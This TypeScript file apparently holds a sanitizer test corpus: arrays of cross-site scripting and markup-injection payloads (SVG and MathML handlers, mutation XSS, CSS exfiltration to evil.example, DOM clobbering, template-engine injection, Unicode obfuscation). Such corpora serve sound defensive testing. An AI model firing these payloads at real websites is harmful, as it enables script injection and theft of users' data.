import { EVIL, type Payload } from './payload.ts'

const SVG: Payload[] = [
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  `<svg><script href="${EVIL}.js" /></svg>`,
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set onbegin=alert(1) attributeName=x>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><style>@import "https://evil.example/pwned.css";</style></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x" /></svg>',
  '<svg><discard onbegin=alert(1)>',
  '<svg><title><script>alert(1)</script></title></svg>',
  '<math><mtext><a xlink:href="javascript:alert(1)">x</a></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><maction actiontype="statusline#https://evil.example/pwned" xlink:href="javascript:alert(1)">x</maction></math>',
]

/** Markup that a sanitizer reads in one way and a browser in another. */
const MUTATIONS: Payload[] = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><xmp>&lt;/xmp&gt;&lt;img src=x onerror=alert(1)&gt;</xmp>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<table><td><form><script>alert(1)</script></table>',
  '<p><svg><style><p><img src=x onerror=alert(1)>',
  '<a title="`<img src=x onerror=alert(1)>`">x</a>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<b><noframes><img title="</noframes><img src=x onerror=alert(1)>">',
]

const STYLES: Payload[] = [
  '<style>*{background:url(https://evil.example/pwned)}</style>',
  '<style>@import url("https://evil.example/pwned.css");</style>',
  '<style>@font-face{font-family:x;src:url(https://evil.example/pwned.woff2)}*{font-family:x}</style>',
  '<style>input[value^="a"]{background:url(https://evil.example/pwned?a)}</style>',
  '<style>body{display:none}</style>',
  `<link rel="stylesheet" href="${EVIL}.css">`,
  '<link rel=stylesheet href="data:text/css,*{background:url(https://evil.example/pwned)}">',
  '<div style="background:url(https://evil.example/pwned)">x</div>',
  '<div style="background:url(&quot;javascript:alert(1)&quot;)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="behavior:url(https://evil.example/pwned.htc)">x</div>',
  '<div style="-moz-binding:url(https://evil.example/pwned.xml#x)">x</div>',
  '<div style="list-style:url(https://evil.example/pwned)">x</div>',
  '<div style="content:image-set(\'https://evil.example/pwned\' 1x)">x</div>',
  '<font style=\'font-family:"\\0022;background:url(https://evil.example/pwned)"\'>x</font>',
  `<p style="cursor:url('https://evil.example/pwned'),auto">x</p>`,
]

/** Names that would take the place of the page's own objects. */
const CLOBBERING: Payload[] = [
  '<a id="root">x</a>',
  '<form name="document"><input name="body"></form>',
  '<img name="getElementById">',
  '<a id="trustedTypes" name="createPolicy" href="javascript:alert(1)">x</a>',
  '<form id="localStorage"><output id="getItem">x</output></form>',
  '<a id="config"></a><a id="config" name="url" href="https://evil.example/pwned">x</a>',
  '<iframe name="top" srcdoc="x"></iframe>',
  '[^constructor]\n\n[^constructor]: [^__proto__]\n\n[^__proto__]: note',
  '[__proto__]\n\n[__proto__]: https://evil.example/pwned',
  '[constructor]: javascript:alert(1)\n\n[constructor] [toString][hasOwnProperty]',
]

/** Words of template engines; nothing may read them. */
const TEMPLATES: Payload[] = [
  "{{constructor.constructor('alert(1)')()}}",
  '$'.concat('{alert(1)}'),
  '<%= alert(1) %>',
  '#{alert(1)}',
  '{%raw%}<script>alert(1)</script>{%endraw%}',
  '<div v-html="\'<img src=x onerror=alert(1)>\'">x</div>',
  '<div ng-app ng-csp><input ng-focus=$event.view.alert(1) autofocus></div>',
  '<div x-data x-init="alert(1)">x</div>',
  '<div data-bind="value: alert(1)">x</div>',
  '<div hx-get="https://evil.example/pwned" hx-trigger="load">x</div>',
  '$$\\href{javascript:alert(1)}{x}$$',
  '```mermaid\ngraph TD\nA["<img src=x onerror=alert(1)>"]\nclick A "javascript:alert(1)"\n```',
  '{"__html": "<img src=x onerror=alert(1)>"}',
  '{"type":"div","props":{"dangerouslySetInnerHTML":{"__html":"<script>alert(1)</script>"}}}',
]

const CHARACTERS: Payload[] = [
  '\u202e<script>alert(1)</script>\u202c',
  '\u2066[click\u2069](javascript:alert(1))',
  '\u200f\u200e<img src=x onerror=alert(1)>',
  '＜script＞alert(1)＜/script＞',
  '‹script›alert(1)‹/script›',
  '\u02bascript\u02ba alert(1)',
  '<\ufffdscript>alert(1)</script>',
  '<scr\u200bipt>alert(1)</scr\u200bipt>',
  '<ſcript>alert(1)</ſcript>',
  '<ıframe src="javascript:alert(1)">',
  '\ufeff<script>alert(1)</script>',
  'Z̷a̷l̷g̷o̷ <img src=x onerror=alert(1)> '.padEnd(200, '\u0336'),
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\u2028<script>alert(1)</script>\u2029',
  '👩‍👩‍👧<script>alert(1)</script>👩‍👩‍👧',
  '<a href="https://xn--80ak6aa92e.example/pwned">apple</a>',
]

export const MARKUP_TRICKS: Payload[] = [
  ...SVG,
  ...MUTATIONS,
  ...STYLES,
  ...CLOBBERING,
  ...TEMPLATES,
  ...CHARACTERS,
]
